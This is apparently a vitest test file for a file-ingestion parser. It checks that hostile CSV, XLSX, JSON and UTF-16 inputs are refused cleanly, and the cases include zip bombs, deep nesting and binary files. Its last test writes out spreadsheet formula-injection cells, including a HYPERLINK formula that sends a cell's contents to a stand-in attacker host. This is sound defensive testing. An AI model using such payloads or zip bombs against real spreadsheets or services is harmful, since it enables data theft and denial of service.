/**
 * Hostile files against the readers themselves (no database): each is refused with a message
 * a person can act on, quickly and without a crash, or (UTF-16 with a BOM) read correctly.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { ParseError, readRows, sniffFile } from '@/lib/features/ingestion/parse';
import { binaryBytes, csv, deepJson, hiddenEntryXlsx, lyingZipBombXlsx, utf16, withZip64LocalHeaders, xlsxOf, zipBombXlsx } from './fixtures';

const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'hostile-parse-'));
afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));
function write(name: string, content: string | Buffer): string {
  const p = path.join(dir, name);
  fs.writeFileSync(p, content);
  return p;
}
/** Sniffs then reads every row, as an ingestion does. */
async function readAll(p: string, name: string, limits?: NonNullable<Parameters<typeof readRows>[2]>['limits']) {
  const s = await sniffFile(p, name, { limits });
  const rows: string[][] = [];
  for await (const r of readRows(p, s.format, { limits })) rows.push(r.fields);
  return { header: s.header, rows };
}
async function refusal(p: string, name: string, limits?: NonNullable<Parameters<typeof readRows>[2]>['limits']): Promise<ParseError> {
  const error = await readAll(p, name, limits).then(() => null, (e: unknown) => e);
  expect(error, 'the file was read instead of refused').toBeInstanceOf(ParseError);
  return error as ParseError;
}

describe('malformed CSV', () => {
  it('an unbalanced quote names its line', async () => {
    const e = await refusal(write('q.csv', csv('TX1,2024-01-01,1.00,Paid', 'TX2,2024-01-02,"2.00,Paid', 'TX3,2024-01-03,3.00,Paid')), 'q.csv');
    expect(e.message).toMatch(/^Line 3: a quoted field is never closed \(unbalanced double quote\)/);
  });

  it('an unbalanced quote swallowing the rest of a large file stops at 256 KiB, not at the end of the file', async () => {
    const rest = Array.from({ length: 200_000 }, (_, i) => `TX${i},2024-01-01,1.00,Paid`).join('\n');
    const e = await refusal(write('runaway.csv', csv('TX0,2024-01-01,"1.00,Paid', rest)), 'runaway.csv');
    expect(e.message).toMatch(/Line 2: a row runs over 256 KiB: most likely an unbalanced double quote/);
  });

  it('10,000 columns: refused naming the limit', async () => {
    const wide = Array.from({ length: 10_000 }, (_, i) => `c${i}`).join(',');
    const e = await refusal(write('wide.csv', `${wide}\n${wide}\n`), 'wide.csv');
    expect(e.message).toBe('Line 1: the row has 10000 fields, more than the limit of 2000: check the delimiter');
  });

  it('a 1 MB cell: refused naming the 64 KiB cell limit', async () => {
    const e = await refusal(write('cell.csv', csv(`TX1,2024-01-01,1.00,${'x'.repeat(1_000_000)}`)), 'cell.csv');
    expect(e.message).toBe('Line 2: a field is 977 KiB, more than the limit of 64 KiB');
  });

  it('a 1 MB quoted cell at the very start (no line end in the sniffed head) is refused just as clearly', async () => {
    const e = await refusal(write('cell2.csv', `"${'y'.repeat(1_000_000)}",a\nb,c\n`), 'cell2.csv');
    expect(e.message).toMatch(/a field is 977 KiB, more than the limit of 64 KiB|a row runs over 256 KiB/);
  });
});

describe('binary files', () => {
  it('random bytes are refused as binary, not read as Windows-1252 text', async () => {
    const e = await refusal(write('noise.csv', binaryBytes(100_000)), 'noise.csv');
    expect(e.message).toMatch(/^The file holds binary data .*upload the CSV, XLSX or JSON export itself/);
  });

  it('a PNG, a PDF and a gzip file are named for what they are', async () => {
    const png = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), binaryBytes(2000)]);
    expect((await refusal(write('image.csv', png), 'image.csv')).message).toBe('The file is a PNG image, not a data export: upload the CSV, XLSX or JSON export itself');
    const pdf = Buffer.concat([Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1'), Buffer.from('1 0 obj\n<< /Type /Catalog >>\nendobj\n')]);
    expect((await refusal(write('report.csv', pdf), 'report.csv')).message).toMatch(/^The file is a PDF document, not a data export/);
    expect((await refusal(write('export.json', Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0])), 'export.json')).message).toMatch(/^The file is a gzip archive/);
  });

  it('text with a few control characters among many bytes is refused as binary', async () => {
    const text = Buffer.from(csv(...Array.from({ length: 50 }, (_, i) => `TX${i},2024-01-01,1.00,Paid`)));
    for (let i = 40; i < text.length; i += 40) text[i] = 0x01;
    expect((await refusal(write('ctl.csv', text), 'ctl.csv')).message).toMatch(/binary data \(\d+ control characters/);
  });
});

describe('UTF-16', () => {
  const body = csv('TX1,2024-01-01,1.00,Paid', 'TX2,2024-01-02,2.50,Pending', 'TX3,2024-01-03,3.00,Zahlung erhalten ✓');
  const expected = [['TX1', '2024-01-01', '1.00', 'Paid'], ['TX2', '2024-01-02', '2.50', 'Pending'], ['TX3', '2024-01-03', '3.00', 'Zahlung erhalten ✓']];

  it('with a BOM (LE and BE) is decoded, every row intact', async () => {
    for (const be of [false, true]) {
      const p = write(`bom-${be}.csv`, utf16(body, { be, bom: true }));
      const s = await sniffFile(p, 'x.csv');
      expect(s.notes.join(' ')).toContain(`UTF-16${be ? 'BE' : 'LE'}`);
      expect(await readAll(p, 'x.csv')).toEqual({ header: ['TransactionID', 'Date', 'Amount', 'Status'], rows: expected });
    }
  });

  it('without a BOM: ASCII-range text is recognised and decoded', async () => {
    const ascii = csv('TX1,2024-01-01,1.00,Paid', 'TX2,2024-01-02,2.50,Pending');
    expect((await readAll(write('nobom.csv', utf16(ascii, { bom: false })), 'nobom.csv')).rows).toEqual(expected.slice(0, 2));
  });

  it('without a BOM and mostly non-Latin text: refused, saying to add the BOM or save as UTF-8', async () => {
    const cyr = `${'Идентификатор,Сумма\n'}${Array.from({ length: 30 }, (_, i) => `Платёж ${i},${i}.00`).join('\n')}\n`;
    const e = await refusal(write('cyr.csv', utf16(cyr, { bom: false })), 'cyr.csv');
    expect(e.message).toMatch(/binary data \(NUL bytes\).*A UTF-16 text file needs its byte order mark; or save it as UTF-8/);
  });

  it('JSON must be UTF-8', async () => {
    const e = await refusal(write('u16.json', utf16('[{"id":"1"}]', { bom: true })), 'u16.json');
    expect(e.message).toBe('JSON files must be UTF-8 (this one is utf-16le)');
  });
});

describe('XLSX', () => {
  it('a zip bomb is refused from its declared sizes, in well under a second, without inflating it', async () => {
    const bomb = zipBombXlsx();
    expect(bomb.length).toBeLessThan(200 * 1024);
    const p = write('bomb.xlsx', bomb);
    const started = performance.now();
    const e = await refusal(p, 'bomb.xlsx');
    expect(performance.now() - started).toBeLessThan(1000);
    expect(e.message).toMatch(/^The XLSX part xl\/worksheets\/sheet1\.xml expands \d+-fold to 100 MiB: refused as a likely zip bomb\. Export the data as CSV instead$/);
  });

  it('a zip bomb that lies about its size is stopped at the size it declared', async () => {
    const e = await refusal(write('liar.xlsx', lyingZipBombXlsx()), 'liar.xlsx');
    expect(e.message).toBe('The XLSX part xl/worksheets/sheet1.xml declares 2 KiB but expands to more: refused as a zip bomb. Export the data as CSV instead');
  });

  it('an entry hidden from the ZIP directory (a streaming reader would still inflate it) is refused', async () => {
    const e = await refusal(write('hidden.xlsx', hiddenEntryXlsx()), 'hidden.xlsx');
    expect(e.message).toMatch(/^The XLSX file is damaged or was tampered with \(the entry at byte 0 is not in the ZIP directory\)/);
  });

  it('a valid workbook whose local headers carry ZIP64 extra fields (Python force_zip64, .NET) is read like any other', async () => {
    const plain = await xlsxOf([['id', 'amount'], ['Z1', 12.5], ['Z2', 3]]);
    const zip64 = withZip64LocalHeaders(plain);
    expect(zip64.readUInt32LE(18)).toBe(0xffffffff); // the first local header's sizes defer to its extra field
    expect(await readAll(write('zip64.xlsx', zip64), 'zip64.xlsx')).toEqual({ header: ['id', 'amount'], rows: [['Z1', '12.5'], ['Z2', '3']] });
  });

  it('ZIP64 local sizes that disagree with the directory, or are missing, are still refused; a ZIP64 bomb still stops at its declared size', async () => {
    const plain = await xlsxOf([['id', 'amount'], ['Z1', 12.5]]);
    const lying = await refusal(write('zip64-lie.xlsx', withZip64LocalHeaders(plain, { part: 'xl/worksheets/sheet1.xml', declare: 5_000_000_000 })), 'zip64-lie.xlsx');
    expect(lying.message).toBe('The XLSX file is damaged or was tampered with (xl/worksheets/sheet1.xml declares two different sizes): save it again from Excel and upload it again');
    const missing = await refusal(write('zip64-none.xlsx', withZip64LocalHeaders(plain, { part: 'xl/workbook.xml', noExtra: true })), 'zip64-none.xlsx');
    expect(missing.message).toMatch(/^The XLSX file is damaged or was tampered with \(xl\/workbook\.xml has a size of 0xFFFFFFFF without a ZIP64 extra field\)/);
    const bomb = await refusal(write('zip64-bomb.xlsx', withZip64LocalHeaders(lyingZipBombXlsx())), 'zip64-bomb.xlsx');
    expect(bomb.message).toBe('The XLSX part xl/worksheets/sheet1.xml declares 2 KiB but expands to more: refused as a zip bomb. Export the data as CSV instead');
  });

  it('the whole archive over the expansion limit is refused', async () => {
    const p = write('ok.xlsx', await xlsxOf([['id', 'amount'], ['A', 1]]));
    const e = await refusal(p, 'ok.xlsx', { maxXlsxUncompressedBytes: 1000 });
    expect(e.message).toMatch(/^The XLSX file expands to \d+ KiB, over the limit of 1000 bytes: export it as CSV instead$/);
  });

  it('a sheet wider than the column cap, and one longer than the row cap, are refused naming the cap', async () => {
    const wide = await xlsxOf([Array.from({ length: 2_100 }, (_, i) => `c${i}`), Array.from({ length: 2_100 }, () => 1)]);
    expect((await refusal(write('wide.xlsx', wide), 'wide.xlsx')).message).toBe('Line 1: the row has 2100 cells, more than the limit of 2000');
    const long = await xlsxOf([['id', 'amount'], ...Array.from({ length: 300 }, (_, i) => [`T${i}`, i])]);
    expect((await refusal(write('long.xlsx', long), 'long.xlsx', { maxRows: 200 })).message).toBe('Line 201: The sheet has more than 200 rows');
  });

  it('a file named .xlsx that is not a workbook, and an old/encrypted (OLE) one, are named as such', async () => {
    expect((await refusal(write('fake.xlsx', 'id,amount\n1,2\n'), 'fake.xlsx')).message).toBe('The file is named .xlsx but is not an Excel workbook (no ZIP signature)');
    const ole = Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(504)]);
    expect((await refusal(write('locked.xlsx', ole), 'locked.xlsx')).message).toMatch(/old Excel 97-2003 \(\.xls\) file or a password-protected workbook/);
  });
});

describe('deeply nested JSON', () => {
  it('100,000 levels inside a row: a clear error, no stack overflow', async () => {
    const e = await refusal(write('deep.json', deepJson(100_000)), 'deep.json');
    expect(e.message).toBe('Line 1: values are nested more than 64 levels deep');
  });

  it('100,000 levels of arrays inside a row, and at the top level', async () => {
    const arrays = `[{"id":"J1","x":${'['.repeat(100_000)}${']'.repeat(100_000)}}]`;
    expect((await refusal(write('arr.json', arrays), 'arr.json')).message).toBe('Line 1: values are nested more than 64 levels deep');
    const top = `${'['.repeat(100_000)}${']'.repeat(100_000)}`;
    expect((await refusal(write('top.json', top), 'top.json')).message).toBe('Line 1: expected an array of objects, found nested arrays');
  });

  it('NDJSON with a deep line is refused on that line', async () => {
    const nd = `{"id":"1"}\n{"id":"2"}\n{"id":"3","d":${'{"a":'.repeat(5000)}1${'}'.repeat(5000)}}\n`;
    expect((await refusal(write('deep.ndjson', nd), 'deep.ndjson')).message).toBe('Line 3: values are nested more than 64 levels deep');
  });

  it('64 levels are still read', async () => {
    const { rows, header } = await readAll(write('ok.json', deepJson(60)), 'ok.json');
    expect(rows).toHaveLength(1);
    expect(header.some((h) => h.startsWith('deep.a.a.a'))).toBe(true);
  });
});

describe('formula cells are data', () => {
  it('are read exactly as written (neutralised only when exported)', async () => {
    const p = write('f.csv', csv('"=HYPERLINK(""http://evil.example/?x=""&A1)",2024-01-01,1.00,Paid', '+cmd,2024-01-01,1.00,Paid', '-2+3,2024-01-01,1.00,Paid', '@SUM(A1:A9),2024-01-01,1.00,Paid', '"\t=1+1",2024-01-01,1.00,Paid'));
    expect((await readAll(p, 'f.csv')).rows.map((r) => r[0])).toEqual(['=HYPERLINK("http://evil.example/?x="&A1)', '+cmd', '-2+3', '@SUM(A1:A9)', '\t=1+1']);
  });
});
